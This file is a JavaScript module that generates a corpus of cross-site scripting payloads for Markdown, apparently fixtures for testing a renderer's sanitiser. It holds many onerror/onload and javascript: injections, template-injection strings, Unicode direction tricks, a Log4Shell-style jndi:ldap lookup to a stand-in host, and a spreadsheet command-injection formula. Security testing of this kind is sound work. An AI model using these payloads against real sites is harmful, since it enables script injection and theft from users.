// Payloads of Markdown and of what people put into it: links, images, fences, tables, templates, text that turns around.
//
// The same form as in `html.mjs`. A scheme is put into every kind of link there is.
import { SCHEMES } from './actions.mjs';

const family = (name, ...list) => list.map((make) => [name, make]);

/** Everything that Markdown makes an address of. */
const LINKS = [
  (to) => `[x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `[x](${to} "title")`,
  (to) => `[x][r]\n\n[r]: ${to}`,
  (to) => `[r]\n\n[r]: <${to}> 'title'`,
  (to) => `<${to}>`,
  (to) => to,
  (to) => `![x](${to})`,
  (to) => `![x][i]\n\n[i]: ${to}`,
  (to) => `[![x](${to})](${to})`,
  (to) => `[**x** \`y\` <b>z</b>](${to})`,
  (to) => `[a [b](${to}) c](${to})`,
  (to) => `[x](\n${to}\n)`,
  (to) => `[x]( ${to} )`,
  (to) => `- [ ] [x](${to})`,
  (to) => `x[^1]\n\n[^1]: [y](${to})`,
  (to) => `| [x](${to}) |\n|---|\n| ![y](${to}) |`,
  (to) => `# [x](${to})`,
  (to) => `> [x](${to})`,
  (to) => `www.example.com and ${to}`,
];

/** Every scheme in four kinds of link, so that all kinds meet. */
const schemes = SCHEMES.flatMap((scheme, at) => [0, 5, 11, 16].map((step) => ['scheme', (act) => LINKS[(at + step) % LINKS.length](scheme(act))]));

/** Every kind of link to where nobody may be led without seeing it, or from where nothing may be fetched. */
const addresses = LINKS.map((link) => ['address', (act, url) => link(url)]);

const titles = family(
  'attribute',
  (act) => `[x](https://example.com "a\\" onmouseover=${act} b=\\"")`,
  (act) => `[x](https://example.com 'a" onmouseover="${act}')`,
  (act) => `[x](https://example.com (a" onfocus="${act}" autofocus="))`,
  (act) => `![x" onerror="${act}](x)`,
  (act) => `![x](x" onerror="${act})`,
  (act) => `![x](x'onerror='${act}')`,
  (act) => `[x](https://example.com/"onmouseover="${act}")`,
  (act) => `<https://example.com/"onmouseover="${act}>`,
  (act) => `https://example.com/"onmouseover="${act}`,
  (act) => `[x](https://example.com){onclick=${act}}`,
  (act) => `# x {#y onclick="${act}"}`,
  (act) => `x\n{: onclick="${act}" style="position:fixed"}`,
  (act) => `![x](x =100x100" onerror="${act}")`,
  (act) => `[x" onmouseover="${act}]: https://example.com\n\n[x" onmouseover="${act}]`,
  (act) => `[^x" onclick="${act}]: note\n\ny[^x" onclick="${act}]`,
  (act) => `:icon" onload="${act}:`,
  (act) => `@user" onclick="${act}`,
  (act) => `#tag" onclick="${act}`,
);

const fences = family(
  'fence',
  (act) => `\`\`\`js" onmouseover="${act}\nlet a = 1;\n\`\`\``,
  (act) => `\`\`\`<img src=x onerror=${act}>\ncode\n\`\`\``,
  (act) => `\`\`\`"><script>${act}</script>\ncode\n\`\`\``,
  (act) => `~~~html onload=${act}\n<p>\n~~~`,
  (act) => `\`\`\`html\n</code></pre><script>${act}</script>\n\`\`\``,
  (act) => `\`\`\`svg\n<svg onload=${act}></svg>\n\`\`\``,
  (act) => `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${act}>"]; click A call ${act}\n\`\`\``,
  (act) => `\`\`\`math\n\\href{javascript:${act}}{x}\n\`\`\``,
  (act) => `\`\`\`json\n{"a":"</script><script>${act}</script>"}\n\`\`\``,
  (act) => `\`\`\`css\n</style><img src=x onerror=${act}>\n\`\`\``,
  (act) => `\`\`\`rust\nlet s = "<img src=x onerror=${act}>"; // </span><script>${act}</script>\n\`\`\``,
  (act) => `\`\`\`diff\n+<img src=x onerror=${act}>\n-<svg onload=${act}>\n\`\`\``,
  (act) => `\`\`\`\n<script>${act}</script>`,
  (act) => `\`<img src=x onerror=${act}>\``,
  (act) => `\`\` \`<img src=x onerror=${act}> \`\``,
  (act) => `    <script>${act}</script>\n\n<script>${act}</script>`,
  (act) => `\`\`\`js\n\`\`\`<script>${act}</script>\n\`\`\``,
  (act) => `\`\`\`${'x'.repeat(300)}" onclick="${act}\n1\n\`\`\``,
  (act) => `\`\`\`constructor\n${act}\n\`\`\`\n\`\`\`__proto__\n${act}\n\`\`\``,
  (act) => `\`\`\`../../etc/passwd\n${act}\n\`\`\``,
);

const blocks = family(
  'block',
  (act) => `| a | <img src=x onerror=${act}> |\n|---|:-:|\n| <svg onload=${act}> | \`|\` |`,
  (act) => `|${'a|'.repeat(60)}\n|${'-|'.repeat(60)}\n|<img src=x onerror=${act}>|`,
  (act) => `| x |\n|" onclick="${act}:-:|\n| y |`,
  (act) => `${'> '.repeat(40)}<img src=x onerror=${act}>`,
  (act) => `${'- '.repeat(40)}<img src=x onerror=${act}>`,
  (act) => `1. a\n   1. b\n      - <svg onload=${act}>\n        > <script>${act}</script>`,
  (act) => `**_~~<img src=x onerror=${act}>~~_**`,
  (act) => `${'*'.repeat(200)}<img src=x onerror=${act}>${'*'.repeat(200)}`,
  (act) => `${'['.repeat(200)}x${'](javascript:'.repeat(50)}${act})`,
  (act) => `\\<img src=x onerror=${act}\\>\n\n\\[x](javascript:${act})`,
  (act) => `<div>\n\n**x** <img src=x onerror=${act}>\n\n</div>`,
  (act) => `<details><summary>x</summary>\n\n<svg onload=${act}>\n\n</details>`,
  (act) => `x\n===\n<img src=x onerror=${act}>\n---`,
  (act) => `Term\n: <img src=x onerror=${act}>`,
  (act) => `---\ntitle: <script>${act}</script>\n---\n\nx`,
  (act) => `*[HTML]: <img src=x onerror=${act}>\n\nHTML`,
  (act) => `x  \n<br onclick=${act}>\\\ny`,
  (act) => `$$\\href{javascript:${act}}{x}$$ and \\(\\unicode{<img src=x onerror=${act}>}\\)`,
  (act) => `\`a\`<a href="javascript:${act}">\`b\`</a>`,
  (act) => `+++\n<style>@import"//x"</style>\n+++\n<img src=x onerror=${act}>`,
);

const templates = family(
  'template',
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `{{ ${act} }} {{{ ${act} }}} {{= ${act} }}`,
  (act) => `\${${act}} #{${act}} *{${act}} @{${act}}`,
  (act) => `<%= ${act} %><% ${act} %>`,
  (act) => `{% raw %}<script>${act}</script>{% endraw %}`,
  (act) => `[[\${${act}}]] [(\${${act}})]`,
  (act) => `<div ng-app>{{$eval.constructor('${act}')()}}</div>`,
  (act) => `<div v-html="'<img src=x onerror=${act}>'" x-data x-init="${act}" @click="${act}"></div>`,
  (act) => `<div hx-get="/xss/1" hx-trigger=load hx-on::load="${act}" data-bind="html: x"></div>`,
  (act) => `{@html "<img src=x onerror=${act}>"} {#if ${act}}{/if}`,
  (act) => `<div inner_html="<script>${act}</script>" dangerouslySetInnerHTML={{__html: "<img src=x onerror=${act}>"}} />`,
  (act) => `$\{jndi:ldap://xss.invalid/${act}} \${{<%[%'"}}%\\.`,
);

const turned = family(
  'unicode',
  (act) => `\u202e<img src=x onerror=${act}>\u202c`,
  (act) => `\u2066<script>${act}</script>\u2069`,
  (act) => `<im\u200bg src=x onerror=${act}>`,
  (act) => `\ufeff<img src=x onerror=${act}>`,
  (act) => `<img\u00a0src=x\u00a0onerror=${act}>`,
  (act) => `<img\u2028src=x\u2029onerror=${act}>`,
  (act) => `\u0085<img src=x on\u0000error=${act}>`,
  (act) => `[\u202eelpmaxe](javascript:${act})`,
  (act) => `[https://bank.example](https://xss.invalid/${act.length} "\u202etxt")`,
  (act) => `﹤img src=x onerror=${act}﹥ ‹script›${act}‹/script›`,
  (act) => `<\u0130mg src=x onerror=${act}><\u212ael onload=${act}>`,
  (act) => `${'\u0301'.repeat(80)}<img src=x onerror=${act}>`,
  (act) => `\ud83d\udc68\u200d\ud83d\udcbb<img src=x onerror=${act}>\ud83c\udff3\ufe0f\u200d\ud83c\udf08`,
  (act) => `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  (act) => `\x1b]8;;javascript:${act}\x07x\x1b]8;;\x07\x1b[31m`,
  (act) => `\r<img src=x onerror=${act}>\r\n\v\f`,
);

/** Text that could be taken for the stream it comes in, or for the page's own data. */
const frames = family(
  'frame',
  (act) => `\n\nevent: cell.delta\ndata: {"text":"<img src=x onerror=${act}>"}\n\n`,
  (act) => `data: [DONE]\n\ndata: <script>${act}</script>`,
  (act) => `{"type":"cell.delta","text":"</script><script>${act}</script>"}`,
  (act) => `</script><script>${act}</script><!-- leptos -->`,
  (act) => `<!--hot-reload|x|open--><img src=x onerror=${act}><!--hot-reload|x|close-->`,
  (act) => `__RESOLVED_RESOURCES[0]="<img src=x onerror=${act}>";`,
  (act) => `{"a": "<img src=x onerror=${act}>", "<svg onload=${act}>": [{"b": "javascript:${act}"}]}`,
  (act) => `[{"__proto__": {"innerHTML": "<img src=x onerror=${act}>"}}, "<script>${act}</script>"]`,
  (act) => `<tool_call>{"name":"<img src=x onerror=${act}>","arguments":{}}</tool_call>`,
  (act) => `=HYPERLINK("javascript:${act}","x")\t+cmd|' /C calc'!A0\t@SUM(1)`,
);

export const MARKDOWN = [...schemes, ...addresses, ...titles, ...fences, ...blocks, ...templates, ...turned, ...frames];
